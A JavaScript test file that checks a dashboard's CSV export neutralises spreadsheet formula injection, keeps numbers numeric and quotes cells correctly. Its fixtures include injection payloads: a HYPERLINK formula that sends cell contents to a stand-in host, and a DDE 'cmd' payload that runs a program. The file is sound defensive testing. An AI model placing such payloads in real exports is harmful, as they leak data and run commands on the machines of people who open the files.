// The dashboard's CSV cells (toCsv in web/static/dom.js), without a browser: text that a
// spreadsheet would run as a formula (=, +, -, @, tab, CR first) is shown as text with a leading
// "'", numbers (negative deviations included) stay numbers, cells are quoted as RFC 4180 says.
//   node tests/browser/dashboard/csv_cells.test.mjs

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const webRoot = process.env.KINEMETRIC_WEB_ROOT || resolve(here, '../../../web/static');
const { toCsv } = await import(pathToFileURL(join(webRoot, 'dom.js')).href);

const row = (cells) => toCsv([cells]).replace(/\r\n$/, '');
const one = (v) => row([v]);

test('formulas in text cells are neutralised', () => {
  assert.equal(one('=HYPERLINK("http://example.invalid/?"&A1)'), '"\'=HYPERLINK(""http://example.invalid/?""&A1)"');
  assert.equal(one("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
  assert.equal(one('=1+1'), "'=1+1");
  assert.equal(one('+1+1'), "'+1+1");
  assert.equal(one('-1+1'), "'-1+1");
  assert.equal(one('@SUM(A1:A2)'), "'@SUM(A1:A2)");
  assert.equal(one('\t=1+1'), "'\t=1+1");
  assert.equal(one('\r=1+1'), '"\'\r=1+1"');
  assert.equal(one('-'), "'-");
  assert.equal(one('-1.2 3.4'), "'-1.2 3.4");
  assert.equal(one('-Infinity'), "'-Infinity");
  assert.equal(one(-Infinity), "'-Infinity");
  assert.equal(one('-1e999'), "'-1e999");
  assert.equal(one('-0x10'), "'-0x10");
  assert.equal(one('a=b'), 'a=b', 'only the first character counts');
});

test('numbers stay numbers, negative ones included', () => {
  for (const [v, out] of [
    [-3.25, '-3.25'],
    [-1e-3, '-0.001'],
    [-1e-7, '-1e-7'],
    [0, '0'],
    [42, '42'],
    ['-3.25', '-3.25'],
    ['-1e-3', '-1e-3'],
    ['+4', '+4'],
    ['-.5', '-.5'],
    ['1E+5', '1E+5'],
  ]) {
    assert.equal(one(v), out, String(v));
  }
});

test('cells are quoted where needed and rows end in CRLF', () => {
  assert.equal(one('a,b'), '"a,b"');
  assert.equal(one('a;b'), '"a;b"');
  assert.equal(one('say "hi"'), '"say ""hi"""');
  assert.equal(one('two\nlines'), '"two\nlines"');
  assert.equal(one(null), '');
  assert.equal(one(undefined), '');
  assert.equal(
    toCsv([
      ['id', 'test_id', 'value'],
      [7, '=HYPERLINK("http://example.invalid/?"&A1)', -3.25],
    ]),
    'id,test_id,value\r\n7,"\'=HYPERLINK(""http://example.invalid/?""&A1)",-3.25\r\n',
  );
});
